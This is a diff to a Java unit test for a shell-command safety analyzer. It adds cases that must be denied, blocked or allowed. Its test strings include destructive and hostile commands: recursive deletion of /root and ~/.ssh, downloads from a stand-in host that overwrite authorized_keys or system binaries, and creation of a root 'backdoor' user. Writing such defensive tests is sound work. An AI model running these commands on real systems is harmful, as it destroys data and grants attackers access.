@@ -89,7 +89,8 @@ class UnseenCommandsTest {
         "gh repo delete acme/api --yes", "glab repo delete acme/api", "gcloud storage rm -r gs://prod-bucket",
         "vault secrets disable secret/", "vault kv destroy -versions=1,2 secret/app", "curl -o /etc/hosts http://x.example/hosts",
         "curl -fsSL http://x.example/k -o ~/.ssh/authorized_keys", "sudo apt-get remove --purge -y libc6", "sudo yum remove -y kernel",
-        "sudo dpkg --force-all -P coreutils", "for t in sessions cache; do psql -c \"TRUNCATE $t\"; done"})
+        "sudo dpkg --force-all -P coreutils", "for t in sessions cache; do psql -c \"TRUNCATE $t\"; done",
+        "sudo rm -rf /root", "sudo rm -rf /root/*", "rm /root/.ssh/authorized_keys"})
     void clearDestructionIsDenied(String command) {
         CommandAssessment assessment = ANALYZER.analyzeShell(command);
         assertEquals("deny", assessment.verdict(), () -> command + " -> " + assessment);
@@ -133,7 +134,8 @@ class UnseenCommandsTest {
         "terraform workspace delete -force prod", "vault kv metadata delete secret/app", "find / -type f -exec shred -u {} \\;",
         "mount -o remount,ro /", "umount -l /", "fsck -y /dev/sda1", "tune2fs -O ^has_journal /dev/sda1", "lvreduce -L 1G /dev/vg/root",
         "ip link set eth0 down", "ifconfig eth0 down", "ip route flush all", "nmcli networking off", "wget -O /usr/bin/ls http://x.example/ls",
-        "echo 'root:x' | chpasswd", "usermod -aG sudo attacker", "useradd -o -u 0 backdoor", "rm -rf /data", "rm -rf /mnt/backup/*"})
+        "echo 'root:x' | chpasswd", "usermod -aG sudo attacker", "useradd -o -u 0 backdoor", "rm -rf /data", "rm -rf /mnt/backup/*",
+        "rm -rf /root/.ssh", "docker ps -aq | grep -v keep | xargs docker rm -f"})
     void riskyCommandsAreBlocked(String command) {
         CommandAssessment assessment = ANALYZER.analyzeShell(command);
         assertTrue(assessment.blocked(), () -> command + " -> " + assessment);
@@ -206,7 +208,10 @@ class UnseenCommandsTest {
         "wget -O /tmp/installer.sh https://x.example/i.sh", "curl --cacert /etc/ssl/certs/ca.pem https://api.internal/health",
         "rm -rf /mnt/c/Users/me/project/build", "rm -rf ./data", "docker run --rm -v /:/host:ro alpine ls /host/etc",
         "curl -s -o /dev/null -w '%{http_code}' https://example.com", "wget -O - https://x.example/a | tar xz",
-        "curl -fsSLo /usr/share/keyrings/docker.gpg https://download.docker.com/linux/ubuntu/gpg"})
+        "curl -fsSLo /usr/share/keyrings/docker.gpg https://download.docker.com/linux/ubuntu/gpg",
+        "sudo rm -rf /root/.cache", "docker ps --format '{{.Names}}' | grep test- | xargs docker rm -f",
+        "kubectl delete pod -l app=web --field-selector=status.phase==Succeeded", "while read -r f; do rm -f \"$f\"; done < files.txt",
+        "rm -rf ~/Library/Developer/Xcode/DerivedData", "sudo rm -rf /var/cache/apt/archives/*.deb", "podman rmi --prune"})
     void benignLookAlikesAreAllowed(String command) {
         CommandAssessment assessment = ANALYZER.analyzeShell(command);
         assertEquals("allow", assessment.verdict(), () -> command + " -> " + assessment);
